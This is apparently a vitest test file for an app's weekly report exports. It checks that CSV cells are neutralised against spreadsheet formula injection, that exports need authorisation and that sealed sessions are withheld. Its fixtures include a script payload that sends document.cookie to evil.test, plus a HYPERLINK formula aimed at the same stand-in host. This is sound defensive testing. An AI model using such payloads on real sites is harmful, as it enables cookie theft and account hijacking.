import { SessionResultSchema, WeeklyReportSchema } from '@locked-in/contracts';
import {
  analyseSession,
  calendarOf,
  foldSession,
  NO_PAST,
  type SessionEvent,
  toWeeklyReport,
} from '@locked-in/domain';
import { clock, HOSTILE_PAGES, timeline } from '@locked-in/domain/testing';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { type AppDeps, buildApp } from '../app.ts';
import { asDevice, asPerson, fakeDeps, loggedSession, openSession } from '../testing/fake-deps.ts';

const WEEK = '2026-W47';
const HEAD = timeline('09:00 start "=1+1" 60m');
const TAIL = timeline('10:00 end');
const LOG = timeline('10:01 log 80 20');

/** Each hostile page for some seconds. */
const HOSTILE: readonly SessionEvent[] = [
  ...HEAD,
  ...HOSTILE_PAGES.map(({ attack: _attack, ...page }, index) => ({
    ...page,
    kind: 'page-shown' as const,
    audible: false,
    occurredAtMs: clock('09:01') + index * 10_000,
  })),
  ...TAIL,
  ...LOG,
];

function analysed(sessionId: string, events: readonly SessionEvent[]) {
  const summary = foldSession(sessionId, events, true);
  if (!summary) throw new Error('not a session');
  const analysis = { ...analyseSession({ sessionId, events, rules: [] }), sentences: [] };
  return { summary, analysis };
}

async function get(name: string, changes: Partial<AppDeps> = {}, headers = asPerson) {
  const response = await buildApp(fakeDeps(changes)).request(`/v1/reports/${WEEK}/${name}`, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const withHostile = { listAnalysed: async () => [analysed('hostile', HOSTILE)] };

test.each(['sessions.csv', 'segments.csv', 'measures.csv'])(
  '%s is a file whose cells no spreadsheet computes, whatever pages were called',
  async (name) => {
    const { status, headers, text } = await get(name, withHostile);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="locked-in-${WEEK}-${name}"`);
    const [head = [], ...rows] = parseCsv(text);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row).toHaveLength(head.length);
      for (const cell of row) expect(isFormula(cell)).toBe(false);
    }
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  },
);

test('every hostile page has its row, told as it was but for what steers', async () => {
  const { text } = await get('segments.csv', withHostile);
  const [head = [], ...rows] = parseCsv(text);
  const titles = rows.map((row) => row[head.indexOf('title')]);
  expect(titles).toContain('<script>fetch("https://evil.test?"+document.cookie)</script>');
  expect(titles).toContain(`'=HYPERLINK("https://evil.test","click")`);
  expect(rows.filter((row) => row[head.indexOf('site')] !== '')).toHaveLength(HOSTILE_PAGES.length);
});

test('numbers stay numbers, and stand under the names of the measures', async () => {
  const events = timeline(`
    09:00 start "draft" 60m forecast 70
    09:00 docs.test
    09:30 video.test
    10:00 end
    10:01 log 80 20
  `);
  const listAnalysed = async () => [analysed('a', events)];
  const [head = [], row = []] = parseCsv((await get('measures.csv', { listAnalysed })).text);
  expect(row[head.indexOf('lengthMs')]).toBe('3600000');
  expect(row[head.indexOf('switchesPerHour.site')]).toBe('1');
  const [sessionHead = [], session = []] = parseCsv((await get('sessions.csv', { listAnalysed })).text);
  expect(session[sessionHead.indexOf('startedAt')]).toBe('2026-11-16T09:00:00.000Z');
  expect(session[sessionHead.indexOf('ownQuality')]).toBe('80');
  expect(session[sessionHead.indexOf('forecastQuality')]).toBe('70');
});

test('goals leave as a table with what was done of each, and by name with their sessions', async () => {
  const goalId = '44444444-4444-4444-8444-444444444444';
  const session = analysed('a', [
    ...timeline(`09:00 start "draft" 60m goal ${goalId}`),
    ...timeline('09:00 docs.test\n10:00 end\n10:01 log 80 20'),
  ]);
  const goal = { goalId, name: '=Thesis', target: { kind: 'held', amount: 120 }, createdAtMs: 0 } as const;
  const past = { ...NO_PAST, goals: [goal] };
  const calendar = calendarOf('UTC');
  const report = { ...toWeeklyReport({ week: WEEK, calendar, sessions: [session], past }), sentences: [] };
  const deps = {
    listAnalysed: async () => [session],
    readReport: async () => ({ report, isFrozen: false }),
  };
  const [head = [], row = [], ...more] = parseCsv((await get('goals.csv', deps)).text);
  const cell = (name: string) => row[head.indexOf(name)];
  expect(more).toEqual([]);
  expect(['goal', 'targetKind', 'target', 'doneLow', 'standing'].map(cell)).toEqual([
    "'=Thesis",
    'held',
    '120',
    '60',
    'open',
  ]);
  const [sessionHead = [], told = []] = parseCsv((await get('sessions.csv', deps)).text);
  expect(told[sessionHead.indexOf('goal')]).toBe("'=Thesis");
  expect((await get('export.json', deps)).text).toContain('"byGoal"');
});

test('a sealed session leaves with nothing of what came of it', async () => {
  const sealed = HOSTILE.filter(({ kind }) => kind !== 'logged');
  const listAnalysed = async () => [analysed('sealed', sealed)];
  for (const name of ['segments.csv', 'measures.csv'])
    expect(parseCsv((await get(name, { listAnalysed })).text)).toHaveLength(1);
  const [, row] = parseCsv((await get('sessions.csv', { listAnalysed })).text);
  expect(row?.[1]).toBe('sealed');
  const everything = (await get('export.json', { listAnalysed })).text;
  expect(everything).not.toContain('segments');
  expect(everything).not.toContain('.test');
});

test('everything is JSON: the report and each session, readable by the schemas of the API', async () => {
  const { text, headers } = await get('export.json', {
    ...withHostile,
    readReport: async () => ({ report: weekOfHostile(), isFrozen: true }),
  });
  expect(headers.get('content-disposition')).toContain(`locked-in-${WEEK}-everything.json`);
  const schema = z.object({ report: WeeklyReportSchema, results: z.array(SessionResultSchema) });
  const { report, results } = schema.parse(JSON.parse(text));
  expect(report.sessions).toHaveLength(1);
  expect(report.details?.strips).toHaveLength(1);
  expect(results[0]).toMatchObject({ status: 'ready' });
});

test('the file to read is made of the report, and there is none while nothing makes it', async () => {
  const seen: unknown[] = [];
  const { text, headers } = await get('export.html', {
    renderReportFile: (input) => {
      seen.push(input);
      return '<!doctype html>';
    },
  });
  expect(text).toBe('<!doctype html>');
  expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
  expect(headers.get('content-disposition')).toContain(
    'attachment; filename="locked-in-2026-W47-report.html"',
  );
  expect(seen).toMatchObject([{ publicUrl: 'http://127.0.0.1:4820', response: { report: { week: WEEK } } }]);
  expect((await get('export.html')).status).toBe(404);
});

test('a device takes nothing away, and what is no week is not found', async () => {
  expect((await get('export.json', {}, { ...asPerson, Cookie: '', ...asDevice })).status).toBe(403);
  const response = await buildApp(fakeDeps()).request('/v1/reports/2026-W60/sessions.csv', {
    headers: asPerson,
  });
  expect(response.status).toBe(404);
});

test('a session that is not analysed yet has its row', async () => {
  const listAnalysed = async () => [{ summary: loggedSession }, { summary: openSession }];
  const [head = [], ...rows] = parseCsv((await get('sessions.csv', { listAnalysed })).text);
  expect(rows.map((row) => row[head.indexOf('status')])).toEqual(['pending', 'pending']);
});

function weekOfHostile() {
  const { summary, analysis } = analysed('hostile', HOSTILE);
  const week = { week: WEEK, calendar: calendarOf('UTC'), sessions: [{ summary, analysis }] };
  return { ...toWeeklyReport(week), sentences: [] };
}

/** What Excel, LibreOffice and Google Sheets take for a formula, leading blanks or not; numbers are none. */
function isFormula(cell: string): boolean {
  return /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
}

/** RFC 4180. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  for (const line of text.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n))/g)) {
    const cell = line[0].replace(/(,|\r\n)$/, '');
    if (rows.length === 0) rows.push([]);
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (line[0].endsWith('\r\n')) rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
